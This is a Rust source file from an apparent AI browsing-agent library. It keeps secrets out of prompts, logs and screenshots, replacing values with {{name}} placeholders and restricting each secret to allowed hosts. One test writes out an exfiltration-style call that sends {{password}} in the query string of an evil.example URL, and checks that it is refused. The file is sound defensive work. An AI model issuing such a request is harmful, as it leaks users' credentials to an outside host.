//! Secrets: words that a tool may use, and that no prompt, journal, screenshot or error shows.
//!
//! The model writes `{{name}}` where the value belongs. Only the tool that is called gets the value; whatever comes back
//! has the placeholder in its place, and in screenshots the element that shows it is painted over.

use std::{
    fmt::{self, Write},
    sync::Arc,
};

use async_trait::async_trait;
use percept_models::Call;
use percept_tools::{
    Element, HostPattern, Input, Screen, ScreenError, ScreenPoint, ScreenRegion, Screenshot,
};
use regex::{NoExpand, Regex};
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::{AgentError, policy::stays_on};

/// A shorter value would be found, and painted over, all over the place.
const SHORTEST: usize = 4;

/// What may be known of a secret.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SecretCard {
    /// Its name: `{{name}}` stands for the value.
    pub name: String,
    /// The hosts on whose pages it may be used; empty: on any page.
    pub hosts: Vec<String>,
}

impl SecretCard {
    /// What stands for the value.
    pub fn placeholder(&self) -> String {
        format!("{{{{{}}}}}", self.name)
    }

    /// Why it can't be used in a call with these arguments on a page at this address; `None` if it can.
    pub(crate) fn forbids(&self, location: Option<&str>, call: &Call) -> Option<String> {
        if self.hosts.is_empty() || stays_on(&self.hosts, call, location) {
            return None;
        }
        Some(format!("the secret `{}` may be used on {} alone", self.name, self.hosts.join(", ")))
    }
}

/// The secrets of a run.
///
/// ```
/// let mut secrets = percept::Secrets::default();
/// secrets.add("password", "lovelace", &["portal.example"])?;
/// assert_eq!(secrets.hidden("typed lovelace"), "typed {{password}}");
/// # Ok::<(), percept::AgentError>(())
/// ```
#[derive(Clone, Default)]
pub struct Secrets(Vec<Secret>);

#[derive(Clone)]
struct Secret {
    card: SecretCard,
    value: String,
    /// Finds the value in whatever form it comes back.
    forms: Regex,
}

impl fmt::Debug for Secrets {
    /// The cards alone.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_list().entries(self.0.iter().map(|secret| &secret.card)).finish()
    }
}

impl Secrets {
    /// Adds one; on pages of these hosts it may be used, or on any if none is named.
    ///
    /// # Errors
    ///
    /// [`AgentError::Secret`] for a name that is no word or is taken, a value that is too short to be hidden, or a host
    /// that is none.
    pub fn add(
        &mut self,
        name: &str,
        value: impl Into<String>,
        hosts: &[&str],
    ) -> Result<&mut Self, AgentError> {
        let value = value.into();
        let refused = |why: String| AgentError::Secret { name: name.to_owned(), why };
        if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
            return Err(refused("its name must be made of letters, digits, `_` and `-`".into()));
        }
        if self.0.iter().any(|secret| secret.card.name == name) {
            return Err(refused("there are two of that name".into()));
        }
        if value.chars().count() < SHORTEST {
            return Err(refused(format!("a value of fewer than {SHORTEST} characters can't be hidden")));
        }
        for host in hosts {
            HostPattern::read(host).map_err(|error| refused(error.to_string()))?;
        }
        let hosts = hosts.iter().map(|host| (*host).to_owned()).collect();
        let forms = Regex::new(&forms(&value)).map_err(|error| refused(error.to_string()))?;
        self.0.push(Secret { card: SecretCard { name: name.to_owned(), hosts }, value, forms });
        // One value may be the beginning of another.
        self.0.sort_by_key(|secret| std::cmp::Reverse(secret.value.len()));
        Ok(self)
    }

    /// Whether there is none.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// What may be known of each.
    pub fn cards(&self) -> Vec<SecretCard> {
        self.0.iter().map(|secret| secret.card.clone()).collect()
    }

    /// A text with every placeholder replaced by its value.
    pub(crate) fn revealed_text(&self, text: &str) -> String {
        self.0
            .iter()
            .fold(text.to_owned(), |text, secret| text.replace(&secret.card.placeholder(), &secret.value))
    }

    /// The arguments with every placeholder replaced by its value: what the tool gets.
    pub(crate) fn revealed(&self, mut arguments: Value) -> Value {
        if !self.is_empty() {
            replace(&mut arguments, &|text| self.revealed_text(text));
        }
        arguments
    }

    /// The text with every value replaced by its placeholder: whatever its letter case and blanks, and also where it is
    /// escaped for an address or a string.
    pub fn hidden(&self, text: &str) -> String {
        self.0.iter().fold(text.to_owned(), |text, secret| {
            secret.forms.replace_all(&text, NoExpand(&secret.card.placeholder())).into_owned()
        })
    }

    /// [`Secrets::hidden`] for everything in a value, keys and numbers too.
    pub(crate) fn hidden_in(&self, value: &mut Value) {
        if self.is_empty() {
            return;
        }
        match value {
            Value::String(text) => *text = self.hidden(text),
            Value::Number(number) => {
                let (plain, hidden) = (number.to_string(), self.hidden(&number.to_string()));
                if plain != hidden {
                    *value = Value::String(hidden);
                }
            }
            Value::Array(values) => values.iter_mut().for_each(|value| self.hidden_in(value)),
            Value::Object(object) => {
                *object = std::mem::take(object)
                    .into_iter()
                    .map(|(key, mut value)| {
                        self.hidden_in(&mut value);
                        (self.hidden(&key), value)
                    })
                    .collect();
            }
            _ => {}
        }
    }

    /// The screen as everybody but the hands sees it. Tools that look must get this one too.
    #[must_use]
    pub fn veil(&self, screen: Arc<dyn Screen>) -> Arc<dyn Screen> {
        if self.is_empty() { screen } else { Arc::new(Veiled { screen, secrets: self.clone() }) }
    }

    fn values(&self) -> Vec<String> {
        self.0.iter().map(|secret| secret.value.clone()).collect()
    }
}

/// The placeholders of these cards that stand in the arguments.
pub(crate) fn used<'a>(cards: &'a [SecretCard], arguments: &Value) -> Vec<&'a SecretCard> {
    cards.iter().filter(|card| mentions(arguments, &card.placeholder())).collect()
}

fn mentions(value: &Value, text: &str) -> bool {
    match value {
        Value::String(own) => own.contains(text),
        Value::Array(values) => values.iter().any(|value| mentions(value, text)),
        Value::Object(object) => object.values().any(|value| mentions(value, text)),
        _ => false,
    }
}

fn replace(value: &mut Value, with: &impl Fn(&str) -> String) {
    match value {
        Value::String(text) => *text = with(text),
        Value::Array(values) => values.iter_mut().for_each(|value| replace(value, with)),
        Value::Object(object) => object.values_mut().for_each(|value| replace(value, with)),
        _ => {}
    }
}

/// An expression for every form in which a value comes back: each character as it is, after backslashes, or as the bytes
/// that an address has for it; blanks however many.
fn forms(value: &str) -> String {
    let mut forms = String::from("(?i)");
    let mut blank = false;
    for character in value.chars() {
        if character.is_whitespace() {
            if !blank {
                forms.push_str(r"(?:\s|\+|%20)+");
            }
            blank = true;
            continue;
        }
        blank = false;
        // Writing to a string can't fail.
        let _ = write!(forms, r"(?:\\*{}|", regex::escape(&character.to_string()));
        let mut bytes = [0; 4];
        for byte in character.encode_utf8(&mut bytes).bytes() {
            let _ = write!(forms, "%{byte:02x}");
        }
        forms.push(')');
    }
    forms
}

/// A screen whose secrets nobody sees.
struct Veiled {
    screen: Arc<dyn Screen>,
    secrets: Secrets,
}

impl Veiled {
    /// Where secrets are shown now; `None` if the screen can't tell.
    async fn places(&self) -> Result<Option<Vec<ScreenRegion>>, ScreenError> {
        match self.screen.places_of(&self.secrets.values()).await {
            Ok(places) => Ok(Some(places)),
            Err(ScreenError::Unsupported { .. }) => Ok(None),
            Err(error) => Err(error),
        }
    }

    fn hidden(&self, mut element: Element) -> Element {
        element.name = self.secrets.hidden(&element.name);
        element.value = element.value.map(|value| self.secrets.hidden(&value));
        element
    }
}

#[async_trait]
impl Screen for Veiled {
    async fn look(&self) -> Result<Screenshot, ScreenError> {
        let before = self.places().await?;
        let mut seen = self.screen.look().await?;
        // The page may have moved while it came to rest: what is painted over is where a secret was, and where it is.
        let after = self.places().await?;
        match (before, after) {
            (Some(before), Some(after)) => {
                seen.paint_over(&before);
                seen.paint_over(&after);
            }
            _ => seen.notes.push("this screen can't say where it shows a secret: it may be seen".into()),
        }
        seen.location = seen.location.map(|place| self.secrets.hidden(&place));
        seen.notes = seen.notes.iter().map(|note| self.secrets.hidden(note)).collect();
        Ok(seen)
    }

    async fn act(&self, input: &Input) -> Result<(), ScreenError> {
        self.screen.act(input).await
    }

    async fn visible_text(&self) -> Result<String, ScreenError> {
        Ok(self.secrets.hidden(&self.screen.visible_text().await?))
    }

    async fn element_at(&self, at: ScreenPoint) -> Result<Option<Element>, ScreenError> {
        Ok(self.screen.element_at(at).await?.map(|element| self.hidden(element)))
    }

    async fn elements(&self) -> Result<Vec<Element>, ScreenError> {
        Ok(self.screen.elements().await?.into_iter().map(|element| self.hidden(element)).collect())
    }

    async fn places_of(&self, texts: &[String]) -> Result<Vec<ScreenRegion>, ScreenError> {
        self.screen.places_of(texts).await
    }

    async fn close(&self) -> Result<(), ScreenError> {
        self.screen.close().await
    }
}

#[cfg(test)]
mod tests {
    use percept_models::Call;
    use serde_json::json;

    use super::{Secrets, used};

    fn secrets() -> Secrets {
        let mut secrets = Secrets::default();
        secrets.add("password", "love lace&1", &["portal.example"]).unwrap();
        secrets.add("pin", "0042", &[]).unwrap();
        secrets
    }

    #[test]
    fn only_the_call_has_the_value_and_what_comes_back_the_placeholder() {
        let secrets = secrets();
        let written = json!({ "text": "{{password}} and {{pin}}, {{other}}", "at": [1, "{{pin}}"] });
        let told = json!({ "text": "love lace&1 and 0042, {{other}}", "at": [1, "0042"] });
        assert_eq!(secrets.revealed(written.clone()), told);
        let mut back = told;
        secrets.hidden_in(&mut back);
        assert_eq!(back, written);
        let forms = [
            "https://a.example/?p=love+lace%261",
            "https://a.example/love%20lace%261",
            "https://a.example/?p=love%20lace&1",
            "LOVE   LACE&1",
            "love\nlace\\&1",
            "%6Cove lace%261",
        ];
        for form in forms {
            let hidden = secrets.hidden(form);
            assert!(hidden.ends_with("{{password}}"), "{hidden}");
        }
        let mut counted = json!({ "0042": [10042, 42] });
        secrets.hidden_in(&mut counted);
        assert_eq!(counted, json!({ "{{pin}}": ["1{{pin}}", 42] }));
        assert!(!format!("{secrets:?}").contains("0042"), "{secrets:?}");
    }

    #[test]
    fn a_secret_is_used_on_its_hosts_alone() {
        let cards = secrets().cards();
        let typed = json!({ "text": "{{password}}" });
        let [password] = used(&cards, &typed)[..] else { panic!("one is used") };
        let call = |arguments| Call { function: "type_text".into(), arguments };
        let portal = Some("https://portal.example/login");
        assert_eq!(password.forbids(portal, &call(typed.clone())), None);
        let sent = call(json!({ "url": "https://evil.example/?p={{password}}" }));
        assert!(password.forbids(portal, &sent).is_some(), "it isn't sent elsewhere either");
        for elsewhere in [Some("https://evil.example/portal.example"), Some("file:///page.html"), None] {
            let why = password.forbids(elsewhere, &call(typed.clone()));
            assert_eq!(why.as_deref(), Some("the secret `password` may be used on portal.example alone"));
        }
        assert_eq!(cards[1].forbids(Some("https://anywhere.example/"), &sent), None);
        assert!(used(&cards, &json!({ "text": "password" })).is_empty());
    }

    #[test]
    fn what_cant_be_kept_is_refused() {
        let cases = [
            ("pin code", "12345", &[][..], "must be made of letters"),
            ("pin", "12345", &[], "two of that name"),
            ("short", "123", &[], "fewer than 4 characters"),
            ("hosted", "12345", &["https://a.example"], "it is an address"),
        ];
        for (name, value, hosts, problem) in cases {
            let error = secrets().add(name, value, hosts).unwrap_err().to_string();
            assert!(error.contains(problem) && !error.contains(value), "{error}");
        }
    }
}
